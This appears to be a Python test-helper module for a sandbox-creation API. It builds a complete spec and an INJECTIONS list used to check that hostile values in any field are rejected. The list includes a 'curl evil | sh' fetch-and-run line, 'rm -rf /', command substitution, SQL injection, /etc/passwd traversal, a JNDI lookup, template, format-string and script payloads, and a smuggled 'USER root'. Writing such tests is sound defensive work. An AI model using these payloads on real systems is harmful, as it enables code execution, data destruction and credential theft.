"""What the tests of bad input share: a blueprint with every member, its strings, and attacks."""

from __future__ import annotations

import copy
from collections.abc import Iterator
from typing import Any

from tests.conftest import Answer, Api
from workspaces.models import Attempt, BuildJob, Sandbox, SandboxRequest, Workspace, WorkspaceEvent

PATH = "/v1/sandboxes"

WHOLE_SPEC: dict[str, Any] = {
    "version": "1",
    "sources": {
        "workspace": {
            "kind": "git",
            "provider": "generic",
            "url": "https://example.org/a.git",
            "ref": "main",
        },
        "inputs": [
            {
                "id": "dot",
                "purpose": "dotfiles",
                "kind": "git",
                "provider": "github",
                "url": "https://example.org/dot.git",
                "ref": "main",
                "mountPath": "/mnt/dot",
            }
        ],
    },
    "harness": {
        "id": "custom",
        "profile": "default",
        "install": "npm install -g agent",
        "command": ["agent", "--headless"],
    },
    "access": {"ssh": {"enabled": True, "listenPort": 2222, "authorizedKeysRef": "keys"}},
    "tooling": {"packages": [{"id": "ripgrep", "version": "13.0"}]},
    "customization": {
        "defaultShell": "bash",
        "dotfilesManager": "auto",
        "dotfilesTarget": "home",
        "dotfilesBootstrapCommand": "./install.sh",
        "user": "workspace",
    },
    "lifecycle": {
        "setup": [{"id": "one", "run": "true", "shell": "bash", "workingDirectory": "src"}],
        "startup": {
            "steps": [
                {"id": "two", "run": "true", "shell": "sh", "workingDirectory": "/workspace"}
            ],
            "foreground": {
                "kind": "command",
                "run": "sleep infinity",
                "shell": "bash",
                "workingDirectory": "src",
            },
        },
    },
    "runtime": {
        "env": {"NAME": "value"},
        "workspaceRoot": "/workspace",
        "workingDirectory": "/workspace/repo",
        "persistence": "ephemeral",
        "ociRuntime": "runc",
        "network": {
            "outbound": True,
            "egress": {
                "default": "deny",
                "presets": ["python"],
                "rules": [
                    {
                        "hosts": ["api.example.com"],
                        "ports": [80],
                        "methods": ["GET"],
                        "paths": ["/v1/*"],
                    }
                ],
            },
        },
        "resources": {"memoryMb": 512, "cpus": 1, "pids": 100},
    },
    "target": {
        "os": {"family": "debian", "mode": "prefer"},
        "runtime": {"family": "docker", "mode": "prefer"},
    },
}

Place = tuple[str | int, ...]


def places(value: Any, here: Place = ()) -> Iterator[Place]:
    """Yield the place of every string in ``value``."""
    if isinstance(value, str):
        yield here
    elif isinstance(value, dict):
        for name, member in value.items():
            yield from places(member, (*here, name))
    elif isinstance(value, list):
        for index, member in enumerate(value):
            yield from places(member, (*here, index))


def objects(value: Any, here: Place = ()) -> Iterator[Place]:
    """Yield the place of every object in ``value``."""
    if isinstance(value, dict):
        yield here
        for name, member in value.items():
            yield from objects(member, (*here, name))
    elif isinstance(value, list):
        for index, member in enumerate(value):
            yield from objects(member, (*here, index))


def at(value: Any, place: Place) -> Any:
    for step in place:
        value = value[step]
    return value


def put(value: Any, place: Place, replacement: Any) -> Any:
    """Return a copy of ``value`` with ``replacement`` at ``place``."""
    changed = copy.deepcopy(value)
    at(changed, place[:-1])[place[-1]] = replacement
    return changed


def pointer(place: Place) -> str:
    return "".join(f"/{step}" for step in place)


STRINGS = list(places(WHOLE_SPEC))
OBJECTS = [place for place in objects(WHOLE_SPEC) if place != ("runtime", "env")]
IDS = [pointer(place) for place in STRINGS]

INJECTIONS = [
    "x\nRUN curl evil | sh",
    "x; rm -rf / #",
    "$(touch /tmp/x)",
    "`id`",
    '"; DROP TABLE workspaces_workspace; --',
    "' OR '1'='1",
    "--privileged",
    "../../../etc/passwd",
    "${jndi:ldap://evil}",
    "{{7*7}}",
    "%s%s%n",
    "<script>alert(1)</script>",
    "x\\\nUSER root",
]


def assert_nothing_written() -> None:
    for model in (Workspace, Sandbox, Attempt, BuildJob, WorkspaceEvent, SandboxRequest):
        assert not model.objects.exists(), model


def refused(api: Api, body: Any = None, **kwargs: Any) -> Answer:
    answer = api.request("POST", PATH, body, **kwargs)
    assert 400 <= answer.status < 500, answer.content[:500]
    assert_nothing_written()
    return answer
